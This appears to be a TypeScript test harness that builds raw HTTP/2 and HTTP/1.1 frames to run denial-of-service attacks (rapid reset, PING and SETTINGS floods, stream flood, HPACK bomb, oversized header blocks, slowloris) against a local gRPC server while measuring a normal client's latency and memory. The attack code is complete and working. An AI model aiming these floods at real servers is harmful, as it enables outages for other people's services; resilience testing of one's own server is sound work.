import net from "node:net";

/**
 * Hostile HTTP/2 and HTTP/1.1 peers written with raw frames over node:net (no
 * attack tools): each opens its own connection, misbehaves, and reports how the
 * server ended it.
 */
export interface AttackResult {
  name: string;
  /** The server closed the connection (FIN/RST) or sent GOAWAY. */
  closedByServer: boolean;
  goaway: number | undefined;
  resets: number;
  ms: number;
  detail: string;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const TYPE = {
  DATA: 0,
  HEADERS: 1,
  RST_STREAM: 3,
  SETTINGS: 4,
  PING: 6,
  GOAWAY: 7,
  CONTINUATION: 9,
};
const END_STREAM = 0x1;
const END_HEADERS = 0x4;

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK integer with an N-bit prefix (RFC 7541 5.1), `flags` in the prefix byte's high bits. */
function hpackInt(value: number, prefix: number, flags: number): Buffer {
  const max = (1 << prefix) - 1;
  if (value < max) return Buffer.from([flags | value]);
  const bytes = [flags | max];
  let rest = value - max;
  while (rest >= 128) {
    bytes.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  bytes.push(rest);
  return Buffer.from(bytes);
}

const str = (s: string | Buffer) => {
  const b = Buffer.isBuffer(s) ? s : Buffer.from(s);
  return Buffer.concat([hpackInt(b.length, 7, 0), b]);
};
/** Literal field, new name: without indexing (0x00) or with incremental indexing (0x40). */
const literal = (name: string, value: string | Buffer, index = false) =>
  Buffer.concat([Buffer.from([index ? 0x40 : 0x00]), str(name), str(value)]);

/** A gRPC request's header block (POST, http, :path, :authority, content-type, te). */
export function requestHeaders(path = "/userharbor.v1.AccountService/VerifySession"): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http (static table)
    Buffer.concat([Buffer.from([0x04]), str(path)]), // :path, indexed name
    Buffer.concat([Buffer.from([0x01]), str("127.0.0.1")]), // :authority, indexed name
    literal("content-type", "application/grpc"),
    literal("te", "trailers"),
  ]);
}

interface Peer {
  socket: net.Socket;
  result: Omit<AttackResult, "name" | "detail" | "ms">;
  closed: Promise<void>;
  write(data: Buffer): Promise<void>;
}

function connect(port: number, h2 = true): Promise<Peer> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, "127.0.0.1");
    const result = { closedByServer: false, goaway: undefined as number | undefined, resets: 0 };
    let buffered = Buffer.alloc(0);
    socket.on("data", (chunk: Buffer) => {
      if (!h2) return;
      buffered = Buffer.concat([buffered, chunk]);
      while (buffered.length >= 9) {
        const length = buffered.readUIntBE(0, 3);
        if (buffered.length < 9 + length) break;
        const type = buffered.readUInt8(3);
        if (type === TYPE.GOAWAY) {
          result.goaway = buffered.readUInt32BE(9 + 4);
          result.closedByServer = true;
        }
        if (type === TYPE.RST_STREAM) result.resets++;
        buffered = buffered.subarray(9 + length);
      }
    });
    const closed = new Promise<void>((done) => {
      socket.once("close", () => {
        result.closedByServer = true;
        done();
      });
    });
    socket.on("error", () => {});
    socket.once("connect", () =>
      resolve({
        socket,
        result,
        closed,
        write: (data) =>
          new Promise((ok) => {
            if (socket.destroyed) return ok();
            if (socket.write(data)) return ok();
            // Back-pressure: go on when the buffer drains or the server hangs up.
            const done = () => {
              socket.off("drain", done).off("close", done);
              ok();
            };
            socket.once("drain", done).once("close", done);
          }),
      }),
    );
    socket.once("error", reject);
  });
}

const settle = (peer: Peer, ms: number) =>
  Promise.race([peer.closed, new Promise((resolve) => setTimeout(resolve, ms))]);

async function h2Attack(
  name: string,
  port: number,
  attack: (peer: Peer) => Promise<string>,
  waitMs = 3_000,
): Promise<AttackResult> {
  const started = performance.now();
  const peer = await connect(port);
  await peer.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0)]));
  const detail = await attack(peer);
  await settle(peer, waitMs);
  const ms = performance.now() - started;
  peer.socket.destroy();
  return { name, ...peer.result, ms, detail };
}

/** CVE-2023-44487: open a stream and reset it at once, over and over. */
export const rapidReset = (port: number, streams = 20_000) =>
  h2Attack("rapid reset", port, async (peer) => {
    const block = requestHeaders();
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(0x8); // CANCEL
    let id = 1;
    for (let sent = 0; sent < streams && !peer.socket.destroyed; sent += 100) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 100; i++, id += 2) {
        batch.push(
          frame(TYPE.HEADERS, END_HEADERS, id, block),
          frame(TYPE.RST_STREAM, 0, id, cancel),
        );
      }
      await peer.write(Buffer.concat(batch));
    }
    return `${(id - 1) / 2} streams opened and reset`;
  });

/** PING frames as fast as the socket takes them. */
export const pingFlood = (port: number, pings = 100_000) =>
  h2Attack("PING flood", port, async (peer) => {
    const ping = frame(TYPE.PING, 0, 0, Buffer.alloc(8));
    let sent = 0;
    for (; sent < pings && !peer.socket.destroyed; sent += 1_000) {
      await peer.write(Buffer.concat(Array.from({ length: 1_000 }, () => ping)));
    }
    return `${sent} PINGs`;
  });

/** SETTINGS frames (each owes an ACK) as fast as the socket takes them. */
export const settingsFlood = (port: number, count = 100_000) =>
  h2Attack("SETTINGS flood", port, async (peer) => {
    const entry = Buffer.alloc(6);
    entry.writeUInt16BE(0x4); // INITIAL_WINDOW_SIZE
    entry.writeUInt32BE(65_535, 2);
    const settings = frame(TYPE.SETTINGS, 0, 0, entry);
    let sent = 0;
    for (; sent < count && !peer.socket.destroyed; sent += 1_000) {
      await peer.write(Buffer.concat(Array.from({ length: 1_000 }, () => settings)));
    }
    return `${sent} SETTINGS`;
  });

/** Thousands of streams opened on one connection and never finished. */
export const streamFlood = (port: number, streams = 5_000) =>
  h2Attack("concurrent streams", port, async (peer) => {
    const block = requestHeaders();
    const frames: Buffer[] = [];
    for (let i = 0, id = 1; i < streams; i++, id += 2)
      frames.push(frame(TYPE.HEADERS, END_HEADERS, id, block));
    await peer.write(Buffer.concat(frames));
    return `${streams} streams opened, none ended`;
  });

/** One 4 KB header put in the dynamic table, then referenced 2,000 times: ~8 MB decoded from ~6 KB. */
export const hpackBomb = (port: number) =>
  h2Attack("HPACK bomb", port, async (peer) => {
    const block = Buffer.concat([
      requestHeaders(),
      literal("x-bomb", "b".repeat(4_000), true),
      Buffer.alloc(2_000, 0x80 | 62), // indexed: the newest dynamic entry
    ]);
    await peer.write(frame(TYPE.HEADERS, END_HEADERS | END_STREAM, 1, block));
    return `${block.length} B block decoding to ~${Math.round((2_001 * 4_038) / 1e6)} MB`;
  });

/** A 256 KiB header value over CONTINUATION frames. */
export const oversizedHeaders = (port: number) =>
  h2Attack("oversized header block", port, async (peer) => {
    const block = Buffer.concat([requestHeaders(), literal("x-big", "o".repeat(256 * 1024))]);
    const chunks: Buffer[] = [];
    for (let at = 0; at < block.length; at += 16_384) chunks.push(block.subarray(at, at + 16_384));
    const frames = chunks.map((chunk, i) =>
      i === 0
        ? frame(TYPE.HEADERS, END_STREAM | (chunks.length === 1 ? END_HEADERS : 0), 1, chunk)
        : frame(TYPE.CONTINUATION, i === chunks.length - 1 ? END_HEADERS : 0, 1, chunk),
    );
    await peer.write(Buffer.concat(frames));
    return `${block.length} B header block in ${frames.length} frames`;
  });

/**
 * Slowloris: `count` HTTP/1.1 connections sending their headers a few bytes at a
 * time, and as many that never send a byte. Resolves when the server has closed
 * them all (or after `waitMs`), saying how many it closed.
 */
export async function slowloris(port: number, count = 200, waitMs = 8_000): Promise<AttackResult> {
  const started = performance.now();
  const peers = await Promise.all(Array.from({ length: 2 * count }, () => connect(port, false)));
  const trickle = setInterval(() => {
    for (const [i, peer] of peers.entries()) {
      if (i % 2 === 0 && !peer.socket.destroyed) peer.socket.write(i === 0 ? "" : "X-a: b\r\n");
    }
  }, 500);
  for (const [i, peer] of peers.entries())
    if (i % 2 === 0) peer.socket.write("POST /x HTTP/1.1\r\nHost: 127.0.0.1\r\n");
  await Promise.race([
    Promise.all(peers.map((p) => p.closed)),
    new Promise((resolve) => setTimeout(resolve, waitMs)),
  ]);
  clearInterval(trickle);
  const closed = peers.filter((p) => p.result.closedByServer).length;
  for (const peer of peers) peer.socket.destroy();
  return {
    name: "slowloris (HTTP/1.1)",
    closedByServer: closed === peers.length,
    goaway: undefined,
    resets: 0,
    ms: performance.now() - started,
    detail: `${closed}/${peers.length} connections closed by the server (half trickling headers, half silent)`,
  };
}

export interface HostileReport {
  results: AttackResult[];
  /** The good client's VerifySession latencies (ms) while the attacks ran. */
  latencies: number[];
  failures: number;
  rssBefore: number;
  rssPeak: number;
}

/**
 * Every attack in turn against `port` while `verify` (a well-behaved client's
 * VerifySession, resolving true when answered valid) runs in a loop; samples the
 * server's RSS (`rss()`) throughout.
 */
export async function runHostileDrill(
  port: number,
  verify: () => Promise<boolean>,
  rss: () => number,
  slowlorisConnections = 200,
): Promise<HostileReport> {
  let running = true;
  const latencies: number[] = [];
  let failures = 0;
  let warm = true;
  const good = (async () => {
    while (running) {
      const started = performance.now();
      const ok = await verify().catch(() => false);
      if (!warm) latencies.push(performance.now() - started);
      if (!ok) failures++;
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  })();
  const samples: number[] = [];
  const sampler = setInterval(() => samples.push(rss()), 100);
  await new Promise((resolve) => setTimeout(resolve, 1_000)); // warm-up
  const rssBefore =
    [...samples].sort((a, b) => a - b)[Math.floor(samples.length / 2)] ?? Number.NaN;
  warm = false;
  const results: AttackResult[] = [];
  try {
    for (const attack of [
      rapidReset,
      pingFlood,
      settingsFlood,
      streamFlood,
      hpackBomb,
      oversizedHeaders,
    ]) {
      results.push(await attack(port));
    }
    results.push(await slowloris(port, slowlorisConnections, 8_000));
  } finally {
    running = false;
    await good;
    clearInterval(sampler);
  }
  return { results, latencies, failures, rssBefore, rssPeak: Math.max(...samples) };
}
